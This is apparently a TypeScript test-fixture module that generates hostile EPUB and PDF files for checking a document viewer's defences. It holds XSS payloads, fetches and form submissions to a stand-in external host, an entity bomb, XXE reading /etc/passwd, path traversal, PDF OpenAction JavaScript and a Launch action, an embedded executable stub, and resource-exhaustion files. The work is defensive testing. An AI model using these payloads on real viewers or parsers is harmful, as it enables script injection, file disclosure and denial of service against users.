import { crc32, deflateSync } from 'node:zlib';
import { zipOf } from './zip-of.ts';
import type { ZipEntry } from './zip-of.ts';

export const elsewhere = 'https://elsewhere.invalid';

interface EpubParts {
  /** Bodies of the chapters, as XHTML. */
  chapters: string[];
  files?: ZipEntry[];
  /** Goes before the root element of each chapter. */
  doctype?: string;
  /** Goes into the head of each chapter. */
  head?: string;
  /** How many sections, when there are fewer files: they come again. */
  sections?: number;
}

const container = `<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">
<rootfiles><rootfile full-path="OPS/book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`;

const name = (place: number) => `c${place + 1}.xhtml`;

export function epubOf({
  chapters,
  files = [],
  doctype = '',
  head = '',
  sections = chapters.length,
}: EpubParts): Buffer {
  const items = chapters.map(
    (_, place) => `<item id="c${place}" href="${name(place)}" media-type="application/xhtml+xml"/>`,
  );
  const opf = `<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">urn:x</dc:identifier><dc:title>A book</dc:title>
<dc:language>en</dc:language></metadata>
<manifest><item id="nav" href="nav.xhtml" properties="nav" media-type="application/xhtml+xml"/>${items.join('')}</manifest>
<spine>${Array.from({ length: sections }, (_, place) => `<itemref idref="c${place % chapters.length}"/>`).join('')}</spine></package>`;
  const nav = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><body>
<nav epub:type="toc"><ol>${chapters.map((_, place) => `<li><a href="${name(place)}">Chapter ${place + 1}</a></li>`).join('')}</ol></nav></body></html>`;
  return zipOf([
    { name: 'mimetype', data: 'application/epub+zip' },
    { name: 'META-INF/container.xml', data: container },
    { name: 'OPS/book.opf', data: opf, deflated: true },
    { name: 'OPS/nav.xhtml', data: nav, deflated: true },
    ...chapters.map((body, place) => ({
      name: `OPS/${name(place)}`,
      data: `<?xml version="1.0" encoding="utf-8"?>${doctype}<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink"><head><title>x</title>${head}</head><body>${body}</body></html>`,
      deflated: true,
    })),
    ...files,
  ]);
}

/** Each would show as a changed title, a dialog, or a request. */
const running = `
<script>parent.document.title = 'TAKEN'; fetch('${elsewhere}/script')</script>
<script src="${elsewhere}/script.js"></script>
<p onclick="parent.document.title='TAKEN'" onmouseover="parent.document.title='TAKEN'">hover</p>
<img src="missing.png" onerror="parent.document.title='TAKEN'"/>
<body onload="parent.document.title='TAKEN'"/>
<svg xmlns="http://www.w3.org/2000/svg" onload="parent.document.title='TAKEN'"><script>parent.document.title='TAKEN'</script>
<animate onbegin="parent.document.title='TAKEN'" attributeName="x" dur="1s"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>parent.parent.document.title='TAKEN'&lt;/script>"/></foreignObject></svg>
<iframe src="javascript:parent.document.title='TAKEN'"></iframe>
<iframe src="${elsewhere}/frame"></iframe>
<object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed"/>
<a href="javascript:parent.document.title='TAKEN'">a script link</a>
<a href="&#106;avascript:parent.document.title='TAKEN'">a hidden script link</a>
<a href="data:text/html,&lt;script>1&lt;/script>">a data link</a>
<a href="${elsewhere}/link" target="_top">a link elsewhere</a>
<form action="${elsewhere}/form"><input name="password" autofocus="" onfocus="parent.document.title='TAKEN'"/><button>Send</button></form>
<video src="${elsewhere}/video" autoplay="" onerror="parent.document.title='TAKEN'"></video><audio src="${elsewhere}/audio"></audio>
<math><mtext><table><mglyph><style><img src="x" onerror="parent.document.title='TAKEN'"/></style></mglyph></table></mtext></math>
<noscript><p title="&lt;/noscript>&lt;img src=x onerror=parent.document.title='TAKEN'>">x</p></noscript>
<details ontoggle="parent.document.title='TAKEN'" open="">details</details>`;

const loading = `
<img src="${elsewhere}/picture.png"/><img src="//elsewhere.invalid/picture.png"/>
<img srcset="${elsewhere}/set.png 2x"/><picture><source srcset="${elsewhere}/source.png"/></picture>
<p style="background:url(${elsewhere}/style.png)">styled</p>
<svg xmlns="http://www.w3.org/2000/svg"><image xlink:href="${elsewhere}/svg.png"/><use href="${elsewhere}/use.svg#x"/></svg>
<img src="/api/users/me"/><img src="../../../api/users/me"/>`;

const loadingHead = `<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh"/><base href="${elsewhere}/"/>
<link rel="stylesheet" href="${elsewhere}/style.css"/><link rel="preload" as="image" href="${elsewhere}/preload.png"/>
<link rel="prefetch" href="${elsewhere}/prefetch"/><link rel="dns-prefetch" href="${elsewhere}"/>
<style>@import url(${elsewhere}/import.css); @font-face{font-family:x;src:url(${elsewhere}/font.woff2)} body{font-family:x;background:url(${elsewhere}/background.png)}</style>`;

const bomb = `<!DOCTYPE html [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>`;

const xxe = `<!DOCTYPE html [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "${elsewhere}/entity">
<!ENTITY % dtd SYSTEM "${elsewhere}/outer.dtd"> %dtd;]>`;

const drawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="parent.document.title='TAKEN'">
<script>parent.document.title='TAKEN'; fetch('${elsewhere}/svg-script')</script><image xlink:href="${elsewhere}/svg-image.png"/></svg>`;

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** A PNG of that size, of one colour; small as a file. */
function hugePng(side: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  // One bit a point, grey.
  head.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * side));
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', head),
    pngChunk('IDAT', rows),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** By what they try. The text 'still here' stands in each chapter that can be read. */
export const hostileEpubs: Record<string, () => Buffer> = {
  'scripts and handlers': () =>
    epubOf({
      chapters: [`<p>still here</p>${running}`],
      head: `<script>parent.document.title='TAKEN'</script>`,
    }),
  'pictures, fonts and styles from elsewhere': () =>
    epubOf({ chapters: [`<p>still here</p>${loading}`], head: loadingHead }),
  'an entity bomb': () => epubOf({ doctype: bomb, chapters: ['<p>still here &h;</p>'] }),
  'external entities': () => epubOf({ doctype: xxe, chapters: ['<p>still here &file; &net;</p>'] }),
  'elements nested 100,000 deep': () =>
    epubOf({ chapters: [`<p>still here</p>${'<div>'.repeat(100_000)}deep${'</div>'.repeat(100_000)}`] }),
  'a picture of 20,000 by 20,000': () =>
    epubOf({
      chapters: ['<p>still here</p><img src="huge.png" alt="a wall"/>'],
      files: [{ name: 'OPS/huge.png', data: hugePng(20_000) }],
    }),
  'markup that ends nowhere': () => epubOf({ chapters: ['<p>still here</p><![CDATA[ <b <a href="x'] }),
  'a chapter that is a drawing, and a picture with a script': () =>
    epubOf({
      chapters: [
        `<p>still here</p><img src="drawing.svg" alt="drawing"/><img src="drawing.png" alt="drawing"/>`,
      ],
      files: ['drawing.svg', 'drawing.png'].map((file) => ({ name: `OPS/${file}`, data: drawing })),
    }),
  'names of objects of the page': () =>
    epubOf({
      chapters: [
        `<p>still here</p>${[
          '__proto__',
          'constructor',
          'body',
          'documentElement',
          'defaultView',
          'adoptedStyleSheets',
          'getElementById',
        ]
          .map(
            (id) =>
              `<p id="${id}">x</p><a name="${id}" id="${id}" href="#${id}">x</a><img name="${id}" id="${id}" src="x.png"/>`,
          )
          .join('')}`,
      ],
    }),
  'a chapter of 150,000 elements': () =>
    epubOf({ chapters: [`<p>still here</p>${'<p>a</p>'.repeat(75_000)}`, '<p>still here</p>'] }),
  'a package, contents and chapters from elsewhere': () => elsewhereEpub(),
  'drawings that change their links, and styles in attributes': () =>
    epubOf({
      chapters: [
        `<p>still here</p><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a>
<animate attributeName="href" to="javascript:parent.document.title='TAKEN'" begin="0s" fill="freeze"/><set attributeName="xlink:href" to="javascript:parent.document.title='TAKEN'"/><text>a script link</text></a>
<use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='${elsewhere}/use'/&gt;&lt;/svg&gt;#x"/><feImage href="${elsewhere}/filter"/>
<style>*{--x:url(${elsewhere}/variable);background:var(--x)}</style></svg>
<p style="--a:url(${elsewhere}/own);background:var(--a);list-style-image:url(${elsewhere}/list);cursor:url(${elsewhere}/cursor),auto">styled</p>
<table background="${elsewhere}/table"><tr><td background="${elsewhere}/cell">x</td></tr></table><video poster="${elsewhere}/poster"><track src="${elsewhere}/track.vtt" default=""/></video>
<input type="image" src="${elsewhere}/input"/><portal src="${elsewhere}/portal"/><link rel="preconnect" href="${elsewhere}"/>`,
      ],
    }),
  '10,000 sections': () =>
    epubOf({
      chapters: Array.from({ length: 4_000 }, (_, n) => `<p>still here ${n + 1}</p>`),
      sections: 10_000,
    }),
};

/** An EPUB whose package, contents and chapters lead elsewhere. */
const elsewhereEpub = () =>
  zipOf([
    { name: 'mimetype', data: 'application/epub+zip' },
    { name: 'META-INF/container.xml', data: container },
    {
      name: 'OPS/book.opf',
      data: `<?xml-stylesheet type="text/xsl" href="${elsewhere}/package.xsl"?><package xmlns="http://www.idpf.org/2007/opf">
<metadata><link rel="record" href="${elsewhere}/record"/></metadata><manifest><item id="web" href="${elsewhere}/chapter.xhtml"/>
<item id="machine" href="file:///etc/passwd"/><item id="above" href="../../../../etc/passwd"/><item id="c" href="c.xhtml" media-overlay="s"/>
<item id="s" href="${elsewhere}/overlay.smil"/><item id="nav" properties="nav" href="nav.xhtml"/><item id="drawing" href="drawing.svg" media-type="image/svg+xml"/>
<item id="xml" href="chapter.xml"/></manifest><bindings><mediaType handler="c" media-type="x/y"/></bindings>
<spine>${['web', 'machine', 'above', 'c', 'drawing', 'xml'].map((id) => `<itemref idref="${id}"/>`).join('')}</spine></package>`,
    },
    {
      name: 'OPS/nav.xhtml',
      data: `<html xmlns:epub="x"><body><nav epub:type="toc"><ol><li><a href="javascript:parent.document.title='TAKEN'">a script link</a></li><li><a href="${elsewhere}">web</a></li><li><a href="c.xhtml">here</a></li></ol></nav></body></html>`,
    },
    {
      name: 'OPS/c.xhtml',
      data: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="page.xsl"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:xi="http://www.w3.org/2001/XInclude" manifest="${elsewhere}/manifest"><body><p>still here</p>
<xi:include href="file:///etc/passwd" parse="text"/><xi:include href="${elsewhere}/include"/><a ping="${elsewhere}/ping" href="#x" id="x">a script link</a>
<a href="ms-word:ofe|u|${elsewhere}/x.docx">a link elsewhere</a><a href="/api/auth/logout">log out</a><a href="\\\\elsewhere.invalid\\x">share</a>
<img src="page.html"/><img src="both.gif"/><img src="file:///etc/passwd"/><img src="../../../../../../uploads/x"/></body></html>`,
    },
    { name: 'OPS/drawing.svg', data: drawing },
    { name: 'OPS/chapter.xml', data: '<?xml-stylesheet type="text/xsl" href="page.xsl"?><r>still here</r>' },
    {
      name: 'OPS/page.xsl',
      data: `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>parent.document.title='TAKEN'</script></xsl:template></xsl:stylesheet>`,
    },
    { name: 'OPS/page.html', data: `<script>parent.document.title='TAKEN'</script>` },
    { name: 'OPS/both.gif', data: `GIF89a/*<script>parent.document.title='TAKEN'</script>*/` },
  ]);

/** They say that they cannot be shown, and offer the download. */
export const unreadableEpubs: Record<string, () => Buffer> = {
  'a protected EPUB': () =>
    epubOf({
      chapters: ['<p>still here</p>'],
      files: [
        {
          name: 'META-INF/encryption.xml',
          data: '<encryption xmlns:enc="x"><enc:CipherReference URI="OPS/c1.xhtml"/></encryption>',
        },
      ],
    }),
};

/** Objects of a PDF; number 1 is the catalogue. */
export function pdfOf(objects: string[], { xref = true }: { xref?: boolean } = {}): Buffer {
  let body = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const head = xref ? `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}` : '';
  const start = xref ? body.length : 99_999_999;
  return Buffer.from(
    `${body}${head}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`,
    'latin1',
  );
}

/** `count` pages that say their number. */
export function pagesPdf(count: number, extra = ''): Buffer {
  const kids = Array.from({ length: count }, (_, n) => `${4 + 2 * n} 0 R`).join(' ');
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${extra} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>',
    ...Array.from({ length: count }, (_, n) => {
      const text = `BT /F1 24 Tf 72 700 Td (still here, page ${n + 1}) Tj ET`;
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${5 + 2 * n} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
        `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
      ];
    }).flat(),
  ]);
}

const packed = (content: Buffer | string, entries = '') => {
  const bytes = deflateSync(content);
  return `<< /Length ${bytes.length} /Filter /FlateDecode ${entries} >>\nstream\n${bytes.toString('latin1')}\nendstream`;
};

const still = 'BT /F1 24 Tf 72 700 Td (still here) Tj ET';

/** One page: its own entries, what it draws, and further objects from number 6 on. */
function onePagePdf(entries: string, content: string, more: string[] = [], catalogue = ''): Buffer {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /Contents 4 0 R ${entries} >>`,
    content,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>',
    ...more,
  ]);
}
const page612 = '/MediaBox [0 0 612 792]';
const font = '/Font << /F1 5 0 R >>';
const uri = `/A << /S /URI /URI (${elsewhere}/link) >>`;
const script = `/A << /S /JavaScript /JS (app.alert\\('TAKEN'\\)) >>`;

export const hostilePdfs: Record<string, () => Buffer> = {
  'scripts and launches on opening': () =>
    pagesPdf(
      2,
      `/OpenAction << /S /JavaScript /JS (app.alert\\('TAKEN'\\); this.submitForm\\('${elsewhere}'\\)) /Next << /S /Launch /F (calc.exe) /Next << /S /URI /URI (${elsewhere}/uri) >> >> >>
/AA << /WC << /S /JavaScript /JS (app.launchURL\\('${elsewhere}'\\)) >> >>
/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while\\(true\\){}) >>] >> >>`,
    ),
  'broken cross references': () => {
    const whole = pagesPdf(2).toString('latin1');
    return Buffer.from(whole.replace(/startxref\n\d+/, 'startxref\n99999999'), 'latin1');
  },
  'links, forms, media and attachments over the whole page': () =>
    onePagePdf(
      `${page612} /Resources << ${font} >> /Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R] /AA << /O << /S /URI /URI (${elsewhere}/open) >> >>`,
      packed(still),
      [
        `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] ${uri} >>`,
        `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] ${script} >>`,
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (value) /Rect [0 0 612 792] /AA << /Fo << /S /JavaScript /JS (app.launchURL\\('${elsewhere}'\\)) >> >> >>`,
        `<< /Type /Annot /Subtype /Screen /Rect [0 0 612 792] /A << /S /GoToR /F (${elsewhere}/other.pdf) >> >>`,
        `<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (${elsewhere}/file.exe) /FS /URL >> >>`,
      ],
      `/AcroForm << /Fields [8 0 R] /XFA [(template) 11 0 R] >>`,
    ),
  'a picture of 20,000 by 20,000 points': () =>
    onePagePdf(
      `${page612} /Resources << ${font} /XObject << /I 6 0 R >> >>`,
      packed(`q 612 0 0 792 0 0 cm /I Do Q ${still}`),
      [
        packed(
          Buffer.alloc((20_000 / 8) * 20_000),
          '/Type /XObject /Subtype /Image /Width 20000 /Height 20000 /ColorSpace /DeviceGray /BitsPerComponent 1',
        ),
      ],
    ),
  'a picture that is in a file elsewhere': () =>
    onePagePdf(
      `${page612} /Resources << ${font} /XObject << /I 6 0 R >> >>`,
      packed(`q 612 0 0 792 0 0 cm /I Do Q ${still}`),
      [
        `<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${elsewhere}/picture) >> /Length 0 >>\nstream\n\nendstream`,
      ],
    ),
  'a page as large as a field': () =>
    onePagePdf(
      `/MediaBox [0 0 200000 200000] /UserUnit 1000 /Resources << ${font} >>`,
      packed(`BT /F1 24000 Tf 72 70000 Td (still here) Tj ET`),
    ),
  'a drawing that contains itself': () =>
    onePagePdf(`${page612} /Resources << ${font} /XObject << /X 6 0 R >> >>`, packed(`${still} /X Do`), [
      packed(
        'q /X Do /X Do Q',
        `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>`,
      ),
    ]),
  'a portfolio with a form, files and actions': () =>
    onePagePdf(
      `${page612} /Resources << ${font} >>`,
      packed(still),
      [
        '<< /Type /Filespec /F (program.exe) /EF << /F 7 0 R >> >>',
        packed('MZ', '/Type /EmbeddedFile'),
        packed(
          '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert("TAKEN")</script></event></subform></template></xdp:xdp>',
        ),
        `<< /S /ImportData /F (${elsewhere}/data.fdf) /Next << /S /GoToE /F (${elsewhere}/other.pdf) /Next << /S /SubmitForm /F << /FS /URL /F (${elsewhere}/form) >> >> >> >>`,
      ],
      `/Collection << /View /D /D (program.exe) >> /Names << /EmbeddedFiles << /Names [(program.exe) 6 0 R] >> >> /AcroForm << /XFA 8 0 R /Fields [] /NeedAppearances true >> /NeedsRendering true /OpenAction 9 0 R /URI << /Base (${elsewhere}/) >>`,
    ),
  'fonts whose names are styles and addresses': () =>
    onePagePdf(
      `${page612} /Resources << /Font << /F1 5 0 R /F2 6 0 R >> >>`,
      packed(`${still} BT /F2 24 Tf 72 600 Td <0001> Tj ET`),
      [
        `<< /Type /Font /Subtype /Type0 /BaseFont /x#22#3bbackground:url#28${elsewhere}/font#29 /Encoding /../../../api/users/me /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /a /CIDSystemInfo << /Registry (../..) /Ordering (/../x) /Supplement 0 >> /FontDescriptor << /FontFamily (x; background: url\\(${elsewhere}\\)) /FontMatrix [1 0 0 1 0 (0\\); alert\\('TAKEN'\\)//)] /FontFile2 7 0 R >> >>] /ToUnicode 8 0 R >>`,
        packed('broken'),
        packed(
          '1 begincidrange <0000> <ffffffff> 0 endcidrange 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange',
        ),
      ],
    ),
  'pictures of kinds that often break': () =>
    onePagePdf(
      `${page612} /Resources << ${font} /XObject << /A 6 0 R /B 7 0 R /C 8 0 R /D 9 0 R >> >>`,
      packed(`q 99 0 0 99 0 0 cm /A Do /B Do /C Do /D Do Q ${still}`),
      ['JPXDecode', 'JBIG2Decode', 'CCITTFaxDecode', 'DCTDecode'].map(
        (filter) =>
          `<< /Type /XObject /Subtype /Image /Width 9000 /Height 4000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /${filter} /DecodeParms << /K -1 /Columns 999999999 /Rows 999999999 >> /Length 30 >>\nstream\n${'jP  '.repeat(7)}jP\nendstream`,
      ),
    ),
  'pages and destinations that lead in circles': () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /Outlines 7 0 R /Names << /Dests 9 0 R >> >>',
      '<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>',
      `<< /Type /Page /Parent 2 0 R /Contents 4 0 R ${page612} /Resources << ${font} >> >>`,
      packed(still),
      '<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>',
      '<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>',
      '<< /First 8 0 R /Last 8 0 R /Count 9999999 >>',
      `<< /Title (a) /Dest (nowhere) /Next 8 0 R /First 7 0 R /Parent 7 0 R /A << /S /URI /URI (javascript:alert\\('TAKEN'\\)) >> >>`,
      '<< /Kids [9 0 R 9 0 R] /Limits [(a) (z)] >>',
    ]),
  'a number of pages that is not so': () =>
    Buffer.from(pagesPdf(2).toString('latin1').replace('/Count 2', '/Count 2000000000'), 'latin1'),
};

/** A page that no browser can draw in a reasonable time. */
export const unreadablePdfs: Record<string, () => Buffer> = {
  'a page that draws without end': () =>
    onePagePdf(
      `${page612} /Resources << ${font} >>`,
      packed(Buffer.from('0 0 m 600 700 l 1 w S\n'.repeat(6_000_000))),
    ),
};

/** Cannot be shown: they say so, and offer the download. */
export const brokenPdfs: Record<string, () => Buffer> = {
  'no pages': () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
  'pages that contain themselves': () =>
    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
};
